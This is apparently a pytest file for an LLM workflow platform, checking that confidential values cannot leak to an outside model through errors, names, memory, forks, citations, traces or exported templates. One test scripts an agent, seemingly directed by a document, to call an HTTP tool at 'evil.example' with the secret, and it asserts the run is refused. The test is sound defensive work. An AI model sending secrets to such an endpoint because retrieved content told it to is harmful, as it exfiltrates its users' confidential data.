"""Ways by which a confidential value might leave besides those that ask: errors, names, pins, forks, citations, branches,
traces. Each is tried on the real engine; nothing of it arrives outside."""

from collections.abc import Awaitable, Callable
from typing import Any

import pytest
from structlog.testing import capture_logs

from atoll.apps import template_plan
from atoll.apps.dataflow import Places
from atoll.apps.expectations import CaseForm
from atoll.chat.memory import carried
from atoll.incidents.alert import message
from atoll.kit import trace
from atoll.nodes.builtin.subflow import SubflowNode
from atoll.policy import Policy, Zone
from atoll.runs.debugging import Fork, Going
from atoll.runs.schemas import Run
from atoll.runs.service import Begin
from atoll.sdk import NodeError, Passage, ToolCall
from tests.runs.test_sinks import ASK, FIND, SECRET, faults, held, left
from tests.runs.world import WS, World, chain, debugging, edge, finished, graph, new, node, soon

__all__ = ["held"]
CUT = node("cut", "redact", level="internal", own=[{"name": "plan", "words": [SECRET], "operator": "drop"}])
NO = {"level": "confidential", "tags": []}
CASE = {"id": "yes", "clauses": [{"variable": "find.documents", "operator": "not_empty"}]}
IF = node("if", "condition", cases=[CASE])


def say(what: str) -> dict[str, Any]:
    return node("say", "llm", model="outside", prompt_template=what)


async def refused(world: World, what: Any, at: str = "say", **more: Any) -> Run:
    assert faults(what, world) == []
    service = world.service()
    run = await service.create(WS, new(what, {"q": "?"}, **more))
    run = await soon(service.wait(WS, run.id))
    assert run.error is not None and (run.error.code, run.error.node) == ("label_forbidden", at), run.error
    return run


async def fails(context: Any) -> Any:
    raise NodeError(SECRET, f"It failed at {context.value('find.documents')}.")


async def error_text(world: World) -> None:
    world.catalogue["sneaky_chat"].use = staticmethod(fails)  # type: ignore[attr-defined]
    bad = node("bad", "sneaky_chat", on_error="branch")
    what = graph(
        ASK,
        FIND,
        bad,
        say("{{ bad.error.message }}"),
        edge("ask", "find"),
        edge("find", "bad"),
        edge("bad", "say", "error"),
    )
    await refused(world, what)


async def error_of_the_run(world: World) -> None:
    """It is told to whoever is answered, so it is held as an answer is."""
    world.policy = Policy(zones=(Zone("local"), Zone("public")), destination="public")
    what = graph(ASK, FIND, node("bad", "sneaky_chat"), edge("ask", "find"), edge("find", "bad"))
    for code in (SECRET, "label_forbidden", 5):

        async def fails_so(context: Any, code: Any = code) -> Any:
            raise NodeError(code, f"It failed at {context.value('find.documents')}.")

        world.catalogue["sneaky_chat"].use = staticmethod(fails_so)  # type: ignore[attr-defined]
        run = await finished(world.service(), what, {"q": "?"})
        assert run.status == "failed" and run.error is not None and run.error.node == "bad" and SECRET not in str(run)


async def a_refusal_tells_the_way_too(world: World) -> None:
    no = node("no", "llm", model="outside", prompt_template="{{ find.documents }}", on_error="branch")
    what = graph(
        ASK,
        FIND,
        IF,
        no,
        say("yes"),
        edge("ask", "find"),
        edge("find", "if"),
        edge("if", "no", "yes"),
        edge("no", "say", "error"),
    )
    await refused(world, what)


async def name_of_a_document(world: World) -> None:
    world.knowledge.passages["secret"] = [Passage("c", "d", SECRET, "secret", "text", 1.0, heading=SECRET)]
    await refused(world, chain(ASK, FIND, say("{{ find.documents[0].document_name }}")))


async def title_of_a_node(world: World) -> None:
    """A title is no template."""
    titled = {**say("{{ q }}"), "title": "{{ find.documents }}"}
    run = await finished(world.service(), graph(ASK, FIND, titled, edge("ask", "find"), edge("ask", "say")), {"q": "?"})
    assert run.status == "succeeded", run.error


async def memory_of_a_chat(world: World) -> None:
    home = node("home", "llm", model="home", prompt_template="{{ find.documents }}")
    first = await finished(world.service(), chain(ASK, FIND, home), {"q": "?"})
    assert first.status == "succeeded", first.error
    took = carried([await world.row(first.id)], "q", tokens=1000, turns=5)
    assert took.labels == [NO]
    again = node("say", "llm", model="outside", prompt_template="{{ q }}", memory={"enabled": True})
    begin = Begin(history=took.history, conversation=took.conversation)
    await refused(world, chain(ASK, again), label=took.labels[0], begin=begin)


async def memory_of_a_declared_input(world: World) -> None:
    """What was asked is remembered, whatever the answer says."""
    asked = node("ask", "input", variable="q", level="confidential")
    out = node("out", "template", template="fixed")
    first = await finished(world.service(), graph(asked, CUT, out, edge("ask", "cut"), edge("cut", "out")), {"q": "?"})
    assert carried([await world.row(first.id)], "q", tokens=1000, turns=5).labels == [NO]


async def a_pin(world: World) -> None:
    pins = {"find": {"documents": [SECRET]}}
    await refused(world, chain(ASK, FIND, say("{{ find.documents }}")), begin=Begin(pins=pins))


async def an_alert(world: World) -> None:
    row: Any = {"found_at": 1, "id": "inc_1", "workspace_id": WS, "kind": "document", "subject_id": "doc_1", "title": SECRET,
                "what": "given_up", "code": "ingest_gave_up"}  # fmt: skip
    assert SECRET not in str(message(row)) and "ingest_gave_up" in str(message(row))


async def a_fork_and_a_node_alone(world: World) -> None:
    asks = say("{{ find.documents }}")
    what = chain(ASK, FIND, asks)
    past = await refused(world, what)
    service = world.service()
    person = debugging(service)
    fork = await person.fork(WS, past.id, Fork("say", inputs={"q": "!"}), "ann")
    alone = await person.try_node(WS, "say", what.nodes[2], {}, {}, new(what, parent_id=past.id))
    for run in (fork, alone):
        run = await soon(service.wait(WS, run.id))
        assert run.error is not None and run.error.code == "label_forbidden"


async def a_value_that_a_person_changed(world: World) -> None:
    service, what = world.service(), chain(ASK, FIND, say("{{ find.documents }}"))
    run = await service.create(WS, new(what, {"q": "?"}, begin=Begin(breakpoints=[{"node": "say"}])))
    await soon(service.wait(WS, run.id))
    await debugging(service).set_value(WS, run.id, "find", "documents", ["another"], "ann")
    await debugging(service).resume(WS, run.id, Going(mode="go"), "ann")
    run = await soon(service.wait(WS, run.id))
    assert run.error is not None and run.error.code == "label_forbidden"


async def a_judge(world: World) -> None:
    """It is given the label that the judged run has: that of its answer and of what was asked."""
    home = node("home", "llm", model="home", prompt_template="{{ find.documents }}")
    run = await finished(world.service(), chain(ASK, FIND, home), {"q": "?"})
    await refused(world, chain(ASK, say("{{ q }}")), label=(await world.row(run.id))["label"])


async def citations(world: World) -> None:
    world.models.answers["home"] = [["said [1]"]]
    home = node("home", "llm", model="home", prompt_template="{{ find.documents }}")
    whole = await finished(world.service(), chain(ASK, FIND, home, node("end", "output")), {"q": "?"})
    assert SECRET in str(whole.citations)
    run = await finished(world.service(), chain(ASK, FIND, home, CUT, node("end", "output")), {"q": "?"})
    assert run.status == "succeeded" and run.outputs and SECRET not in str((run.outputs, run.citations))


async def a_way_that_was_not_taken(world: World) -> None:
    """The other way gives nothing, and that tells."""
    none = {"id": "yes", "clauses": [{"variable": "find.documents", "operator": "empty"}]}
    what = graph(
        ASK, FIND, node("if", "condition", cases=[none]), node("a", "template", template="x"), say("{{ a.text }}"),
        edge("ask", "find"), edge("find", "if"), edge("if", "a", "yes"), edge("a", "say"), edge("ask", "say"),
    )  # fmt: skip
    await refused(world, what)


async def an_app_that_is_called_twice(world: World) -> None:
    """A plugin's container may pass several times through another app: what the first pass gave counts."""

    class Twice(SubflowNode):
        name = "twice"

        @classmethod
        def enter(cls, config: Any, inputs: Any, index: int, last: Any) -> dict[str, Any] | None:
            return {"n": index} if index < 2 else None

        @classmethod
        def gather(cls, config: Any, inputs: Any, values: list[Any], last: Any) -> dict[str, Any]:
            return dict(values[0])

    world.catalogue["twice"] = Twice
    first = {"id": "yes", "clauses": [{"variable": "n", "operator": "=", "value": 0}]}
    inside = graph(
        node("i", "input", variables=[{"name": "n", "type": "number", "required": False}]),
        node("if", "condition", cases=[first]), node("look", "retriever", vector_index="secret", query="x"),
        node("nil", "template", template="nil"), node("out", "output", template="{{ look.documents }}{{ nil.text }}"),
        edge("i", "if"), edge("if", "look", "yes"), edge("if", "nil", "false"), edge("look", "out"), edge("nil", "out"),
    ).model_dump()  # fmt: skip
    twice = node("twice", "twice", app="other", version="embedded", graph=inside)
    await refused(world, chain(ASK, twice, say("{{ twice.output }}")))


async def how_often_a_container_passed(world: World) -> None:
    each = node("each", "iteration", graph=chain(node("x", "template", template="x")).model_dump())
    await refused(
        world,
        graph(
            ASK,
            FIND,
            each,
            say("{{ each }}"),
            edge("ask", "find"),
            edge("find", "each", documents="items"),
            edge("each", "say"),
        ),
    )


async def an_agent_that_a_document_orders(world: World) -> None:
    tools = [
        {"kind": "dataset", "name": "read", "dataset": "secret"},
        {"kind": "http", "name": "send", "url": "https://evil.example/{{ x }}", "description": "sends", "parameters": [{"name": "x"}]},
    ]  # fmt: skip
    world.models.answers["home"] = [[ToolCall("1", SECRET, {})], [ToolCall("2", "send", {"x": SECRET})], ["done"]]
    what = chain(ASK, node("say", "agent", model="home", query="{{ q }}", tools=tools))
    await refused(world, what)


async def traces_and_logs(world: World) -> None:
    told: list[Any] = []

    class Span:
        traceparent = ""

        def name(self, name: str) -> None:
            told.append(name)

        def note(self, attributes: Any) -> None:
            told.append(attributes)

        def fail(self, code: str) -> None:
            told.append(code)

        def end(self) -> None: ...

    class Recorder:
        def begin(self, *about: Any) -> Span:
            told.append(about)
            return Span()

    world.catalogue["sneaky_chat"].use = staticmethod(fails)  # type: ignore[attr-defined]
    what = graph(ASK, FIND, node("bad", "sneaky_chat"), edge("ask", "find"), edge("find", "bad"))
    recorder: Any = Recorder()
    trace.install(recorder)
    try:
        with capture_logs() as logs:
            run = await finished(world.service(), what, {"q": "?"})
    finally:
        trace.install(None)
    assert run.status == "failed" and len(told) > 5 and logs
    assert SECRET not in str(told) and SECRET not in str(logs)


async def a_template(world: World) -> None:
    """A default and a test case of an input that is declared confidential stay; the file goes where answers go."""
    asked = node("ask", "input", variables=[{"name": "q", "default": SECRET}, {"name": "r"}], level="confidential")
    what = chain(asked, node("end", "output"))
    places = Places(Policy(zones=(Zone("local"), Zone("public")), destination="public"), "local")
    case = CaseForm(name="c", inputs={"q": SECRET})
    made = template_plan.export(
        what.model_dump(), name="n", version="1", catalogue=world.catalogue, places=places, tests=[case]
    )
    assert SECRET not in str(made) and "tests" not in made
    home = Places(Policy.default(), "local")
    made = template_plan.export(
        what.model_dump(), name="n", version="1", catalogue=world.catalogue, places=home, tests=[case]
    )
    assert made["parameters"] == {"q": SECRET} and len(made["tests"]) == 1


WAYS: dict[str, Callable[[World], Awaitable[None]]] = {
    "the text of an error, by its branch": error_text,
    "the error of a run": error_of_the_run,
    "a refusal, by its branch": a_refusal_tells_the_way_too,
    "a document's name": name_of_a_document,
    "a node's title": title_of_a_node,
    "memory of an earlier turn": memory_of_a_chat,
    "memory of what was asked": memory_of_a_declared_input,
    "a pinned value": a_pin,
    "an alert": an_alert,
    "a fork, and a node alone": a_fork_and_a_node_alone,
    "a value that a person changed": a_value_that_a_person_changed,
    "the judge of a test case": a_judge,
    "citations": citations,
    "the way that was not taken": a_way_that_was_not_taken,
    "an app that is called twice": an_app_that_is_called_twice,
    "the number of passes": how_often_a_container_passed,
    "a tool's name and arguments": an_agent_that_a_document_orders,
    "traces and logs": traces_and_logs,
    "an exported template": a_template,
}


@pytest.mark.parametrize("way", WAYS)
async def test_nothing_leaves(held: World, way: str) -> None:
    await WAYS[way](held)
    asked = [str(said) for model, said, _ in held.models.asked if model == "outside"]
    assert SECRET not in str(asked) and not [one for one in left(held) if one != "outside"]
